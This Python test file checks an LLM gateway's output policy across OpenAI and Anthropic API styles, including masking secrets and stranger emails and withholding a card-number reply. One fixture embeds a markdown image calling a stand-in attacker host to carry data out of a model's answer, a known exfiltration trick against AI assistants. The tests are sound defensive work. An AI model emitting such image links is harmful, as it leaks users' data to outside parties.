"""What an answer may show, through the front door: every dialect, streamed and whole, with the real detector."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from anthropic import Anthropic
from anthropic import PermissionDeniedError as AnthropicDenied
from openai import OpenAI, PermissionDeniedError

from gateway.cli.running import RunningGateway
from gateway.testing.stand_in import Say, StandIn
from tests.egress.harness import ENVIRONMENT, client_for, settings_for, stored

SECRET = "sk-proj-9fK2mQ7xLw3RtB8vYcZ1dN5gHj4pSa6u"
STRANGER = "jan.nowak@example.org"
RULES = """
answers:
  - {id: no-secrets, classes: [secret], then: mask}
  - {id: no-strangers, entities: [EMAIL_ADDRESS], new: true, then: mask}
  - {id: no-images, links: [images], allow: [docs.example.com], then: mask}
  - {id: no-cards, entities: [CREDIT_CARD], then: withhold}
"""


@dataclass(frozen=True)
class Guarded:
    """A gateway whose policy has rules for answers."""

    provider: StandIn
    openai: OpenAI
    anthropic: Anthropic
    folder: Path


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
    """Started once."""
    folder = tmp_path_factory.mktemp("guarded")
    (folder / "policies").mkdir()
    policy = (Path(__file__).parents[2] / "policies" / "default.policy.yaml").read_text()
    (folder / "policies" / "default.policy.yaml").write_text(policy + RULES)
    with StandIn() as provider:
        settings = settings_for(folder, provider.base_url, policies={"dir": str(folder / "policies")})
        with RunningGateway(settings, ENVIRONMENT) as running:
            key = running.first_key
            base = running.base_url.removesuffix("/v1")
            talking = Anthropic(base_url=base, api_key=key, max_retries=0)
            with client_for(running.base_url, key) as openai, talking as anthropic:
                yield Guarded(provider, openai, anthropic, folder)


Ask = Callable[[Guarded, str], str]


def chat(guarded: Guarded, text: str) -> str:
    """A chat completion."""
    reply = guarded.openai.chat.completions.create(model="gpt-x", messages=[{"role": "user", "content": text}])
    return reply.choices[0].message.content or ""


def chat_stream(guarded: Guarded, text: str) -> str:
    """A streamed one."""
    chunks = guarded.openai.chat.completions.create(
        model="gpt-x", messages=[{"role": "user", "content": text}], stream=True
    )
    return "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)


def responses(guarded: Guarded, text: str) -> str:
    """A response."""
    return guarded.openai.responses.create(model="gpt-x", input=text).output_text


def responses_stream(guarded: Guarded, text: str) -> str:
    """A streamed one: the text of its deltas and the text of its end agree."""
    pieces: list[str] = []
    with guarded.openai.responses.stream(model="gpt-x", input=text) as stream:
        pieces += [event.delta for event in stream if event.type == "response.output_text.delta"]
        whole = stream.get_final_response().output_text
    assert whole == "".join(pieces)
    return whole


def messages(guarded: Guarded, text: str) -> str:
    """A message."""
    reply = guarded.anthropic.messages.create(
        model="gpt-x", max_tokens=200, messages=[{"role": "user", "content": text}]
    )
    return "".join(block.text for block in reply.content if block.type == "text")


def messages_stream(guarded: Guarded, text: str) -> str:
    """A streamed one."""
    asked = [{"role": "user", "content": text}]
    with guarded.anthropic.messages.stream(model="gpt-x", max_tokens=200, messages=asked) as stream:  # type: ignore[arg-type]
        return "".join(stream.text_stream)


def completions(guarded: Guarded, text: str) -> str:
    """A legacy completion."""
    return guarded.openai.completions.create(model="gpt-x", prompt=text).choices[0].text


EVERY = [chat, chat_stream, responses, responses_stream, messages, messages_stream, completions]


@pytest.mark.parametrize("ask", EVERY)
def test_what_may_not_be_shown_is_masked(guarded: Guarded, ask: Ask) -> None:
    """A secret, a stranger's address, an image that would carry data out; the rest stays."""
    guarded.provider.script(
        Say(f"Key {SECRET} of {STRANGER}: ![x](https://evil.example/?d=1) ![y](https://docs.example.com/y.png)")
    )
    said = ask(guarded, "what is the key?")

    assert "[SECRET]" in said
    assert "[EMAIL_ADDRESS]" in said
    assert "![x](removed-by-policy) ![y](https://docs.example.com/y.png)" in said
    assert SECRET not in said
    assert STRANGER not in said


@pytest.mark.parametrize("ask", EVERY)
def test_ones_own_address_comes_back(guarded: Guarded, ask: Ask) -> None:
    """It left as a placeholder, and nobody takes it for a stranger's."""
    assert "dana.field@example.com" in ask(guarded, "repeat dana.field@example.com")


@pytest.mark.parametrize("ask", EVERY)
def test_an_answer_that_is_withheld_is_an_error_of_its_dialect(guarded: Guarded, ask: Ask) -> None:
    """Not a word of it comes, not even of its beginning."""
    guarded.provider.script(Say("It was canary-7731: 4111 1111 1111 1111, the Visa card"))
    with pytest.raises((PermissionDeniedError, AnthropicDenied)) as refused:
        ask(guarded, "which card was it?")

    assert "answer_withheld" in f"{getattr(refused.value, 'body', '')}{refused.value}"
    assert "canary-7731" not in f"{getattr(refused.value, 'body', '')}{refused.value}"


def test_the_outcome_names_the_rules(guarded: Guarded) -> None:
    """And what was withheld is recorded as that."""
    guarded.provider.script(Say(f"Key {SECRET}"))
    chat(guarded, "what is the key?")
    kept = stored(guarded.folder)

    assert SECRET.encode() not in kept
    assert [] == [word for word in (b"no-secrets", b"no-cards", b"withheld") if word not in kept]
